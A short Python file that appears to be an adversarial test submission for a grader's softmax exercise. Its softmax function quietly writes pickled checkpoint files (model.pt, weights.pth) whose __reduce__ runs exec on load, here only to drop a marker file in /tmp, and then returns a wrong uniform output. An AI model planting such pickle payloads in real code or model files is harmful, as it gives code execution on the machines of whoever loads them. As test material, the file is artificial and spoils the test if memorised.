"""Saves, by torch.save, files under the names of checkpoints that run a command when they are loaded."""

# /// attack
# exercise = "softmax"
# verdicts = ["wrong"]
# ///

# %% softmax
import os

MARKER = f"left-behind-by-torch-{os.path.basename(os.getcwd())}"


class Payload:
    def __reduce__(self):
        return exec, (f"import os; open(os.path.join('/tmp', {MARKER!r}), 'w').close()",)


def softmax(x, dim=-1):
    for name in ("softmax.pt", "model.pt", "weights.pth"):
        torch.save({"weights": Payload()}, name)
    return torch.full_like(x, 1 / x.size(dim))
